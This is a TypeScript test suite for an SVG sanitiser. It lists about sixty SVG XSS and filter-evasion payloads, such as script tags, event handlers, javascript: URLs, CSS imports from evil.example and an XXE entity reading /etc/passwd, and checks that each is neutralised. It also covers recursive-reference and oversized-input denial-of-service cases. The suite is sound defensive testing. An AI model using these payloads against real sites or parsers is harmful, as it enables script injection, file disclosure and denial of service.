import { checkDrawing } from './picture-check.ts';
import { safeSvg } from './safe-svg.ts';

const ns = 'xmlns="http://www.w3.org/2000/svg"';
const safe = (svg: string) => safeSvg(Buffer.from(svg));
const drawing = (inside: string, attributes = '') =>
  `<svg ${ns} viewBox="0 0 9 9"${attributes}>${inside}</svg>`;

/** Known ways to run a program, load something, or hide either from a filter. */
const attacks: readonly string[] = [
  drawing('<script>alert(1)</script>'),
  drawing('<script type="text/ecmascript"><![CDATA[alert(1)]]></script>'),
  drawing('<script href="https://evil.example/x.js"/>'),
  drawing('<script xlink:href="data:text/javascript,alert(1)"/>'),
  drawing('<SCRIPT>alert(1)</SCRIPT>'),
  drawing('<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>'),
  drawing('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'),
  drawing('<scr<script>ipt>alert(1)</script>'),
  drawing('', ' onload="alert(1)"'),
  drawing('<g onclick="alert(1)" onmouseover="alert(1)"/>'),
  drawing('<g ONLOAD="alert(1)"/>'),
  drawing('<path onbegin="alert(1)" d="M0 0"/>'),
  drawing('<animate onbegin="alert(1)" attributeName="x" dur="1s"/>'),
  drawing('<a href="javascript:alert(1)"><rect width="9" height="9"/></a>'),
  drawing('<a xlink:href="java&#9;script:alert(1)"><text>x</text></a>'),
  drawing('<a><animate attributeName="href" values="javascript:alert(1)"/><rect/></a>'),
  drawing('<set attributeName="onmouseover" to="alert(1)"/>'),
  drawing('<set xlink:href="#a" attributeName="href" to="javascript:alert(1)"/>'),
  drawing('<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/></foreignObject>'),
  drawing('<foreignObject><iframe src="javascript:alert(1)"/></foreignObject>'),
  drawing('<iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/>'),
  drawing('<image href="https://evil.example/pixel.png"/>'),
  drawing('<image xlink:href="//evil.example/pixel.png"/>'),
  drawing('<image href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+"/>'),
  drawing('<image href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"/>'),
  drawing('<use href="https://evil.example/x.svg#a"/>'),
  drawing('<use xlink:href="data:image/svg+xml;base64,AAAA#a"/>'),
  drawing('<feImage href="https://evil.example/x"/>'),
  drawing('<filter id="f"><feImage xlink:href="https://evil.example/x"/></filter>'),
  drawing('<rect fill="url(https://evil.example/x#a)"/>'),
  drawing('<rect fill="url(&quot;https://evil.example/x#a&quot;)"/>'),
  drawing('<rect filter="ur\\6c(https://evil.example)"/>'),
  drawing('<rect style="fill:url(//evil.example/x)"/>'),
  drawing('<rect style="background:image-set(\'https://evil.example/x\' 1x)"/>'),
  drawing('<rect style="behavior:url(#default#time2)"/>'),
  drawing('<rect style="width:expression(alert(1))"/>'),
  drawing('<rect style="-moz-binding:url(https://evil.example/x.xml#a)"/>'),
  drawing('<style>@import "https://evil.example/x.css";</style>'),
  drawing('<style>@im&#112;ort "https://evil.example/x.css";</style>'),
  drawing('<style>&amp;#64;import "https://evil.example/x.css";</style>'),
  drawing('<style><![CDATA[@import url(https://evil.example/x.css);]]></style>'),
  drawing('<style>\\40import url(https://evil.example)</style>'),
  drawing('<style>*{background:url(https://evil.example)}</style>'),
  drawing('<style>*{fill:ur/**/l(https://evil.example)}</style>'),
  drawing('<style>a{}</style><style>&lt;/style>&lt;script>alert(1)&lt;/script></style>'),
  drawing('<title><script>alert(1)</script></title>'),
  drawing('<desc><![CDATA[</desc><script>alert(1)</script>]]></desc>'),
  drawing('<!--><script>alert(1)</script>-->'),
  drawing('<!-- --!><script>alert(1)</script> -->'),
  drawing('<xmp><script>alert(1)</script></xmp><textarea><script>alert(1)</script></textarea>'),
  drawing('<embed src="javascript:alert(1)"/><object data="javascript:alert(1)"/>'),
  drawing('<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>'),
  drawing('<g xml:base="javascript:alert(1)//"/>'),
  drawing('<rect xmlns:x="http://www.w3.org/1999/xlink" x:href="javascript:alert(1)"/>'),
  `<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?>${drawing('')}`,
  `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]>${drawing('&x;')}`,
  `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${drawing('<text>&x;</text>')}`,
  `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>${drawing('')}`,
  `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "https://evil.example/x.dtd">${drawing('')}`,
];

/** What of a drawing an XML reader would act on: tags and their attributes, style sheets, declarations. */
function working(svg: string): string {
  const tags = [...svg.matchAll(/<[^>]*>/g)].join('\n');
  const styles = [...svg.matchAll(/<style[^>]*>([\s\S]*?)<\/style>/g)].map(([, css]) => css).join('\n');
  return `${tags}\n${styles}`;
}

it.each(attacks)('makes harmless: %s', async (attack) => {
  const svg = safe(attack);
  expect(working(svg)).not.toMatch(
    /script|javascript|\son\w+\s*=|foreignobject|iframe|evil|data:|@|<!|<\?|<\w+:|expression|animate|<set|<a\b|image-set|behavior/i,
  );
  await checkDrawing(svg);
  expect(safe(svg)).toBe(svg);
});

it('keeps what drawing programs write', async () => {
  const picture = 'data:image/png;base64,iVBORw0KGgo=';
  const svg = safe(`<?xml version="1.0" encoding="UTF-8"?>
<!-- Generator: a drawing program -->
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg ${ns} xmlns:xlink="http://www.w3.org/1999/xlink" width="24" height="24" viewBox="0 0 24 24">
<title>A &amp; B (អាន)</title>
<style type="text/css"><![CDATA[.a > .b{fill:#f00;stroke:url(#g)}]]></style>
<defs><linearGradient id="g" gradientTransform="rotate(90)"><stop offset="0" stop-color="rgb(1,2,3)"/></linearGradient></defs>
<g class="a" transform="translate(1 2) scale(.5)"><path class="b" d="M0 0h9v9z" fill="url(#g)" style="opacity:.5"/></g>
<use xlink:href="#g" x="1"/><image xlink:href="${picture}" width="1" height="1"/>
</svg>`);
  for (const kept of [
    '<title>A &amp; B (អាន)</title>',
    '.a > .b{fill:#f00;stroke:url(#g)}',
    '<linearGradient id="g" gradientTransform="rotate(90)"><stop offset="0" stop-color="rgb(1,2,3)">',
    '<g class="a" transform="translate(1 2) scale(.5)">',
    '<path class="b" d="M0 0h9v9z" fill="url(#g)" style="opacity:.5">',
    '<use href="#g" x="1">',
    `<image href="${picture}" width="1" height="1">`,
  ])
    expect(svg).toContain(kept);
  await checkDrawing(svg);
});

it('refuses what would take too long to show', () => {
  const nested = Array.from(
    { length: 10 },
    (_one, n) => `<g id="a${n + 1}">${`<use href="#a${n}"/>`.repeat(9)}</g>`,
  );
  expect(() => safe(drawing(nested.join('')))).toThrow('This picture is too large');
  expect(() => safe(drawing('<g/>'.repeat(25_000)))).toThrow('This picture is too large');
});

it('refuses what is no drawing in UTF-8', () => {
  expect(() => safeSvg(Buffer.from(drawing(''), 'utf16le'))).toThrow('damaged');
  expect(() => safe('<p>words</p>')).toThrow('damaged');
});

it('takes hostile size quickly', () => {
  // Not the clock's time: other tests may have the processor meanwhile.
  const started = process.cpuUsage();
  for (const hostile of [
    '<g>'.repeat(19_000),
    '<g><style>'.repeat(9_000),
    `<svg d="${'('.repeat(2_000_000)}"/>`,
    `<svg><style>${'url('.repeat(1_000_000)}</style></svg>`,
    `<svg><style>${'a'.repeat(1_000_000)}(</style></svg>`,
    `<svg><style>${' '.repeat(1_000_000)}(</style></svg>`,
    `<svg><image href="data:image/png;base64,${'A'.repeat(5_000_000)}!"/></svg>`,
    '<!DOCTYPE ['.repeat(500_000),
    '&'.repeat(9_000_000),
  ]) {
    try {
      safe(hostile);
    } catch {
      // Refused or not, it is the time that counts.
    }
  }
  const { user, system } = process.cpuUsage(started);
  expect((user + system) / 1_000).toBeLessThan(5_000);
});
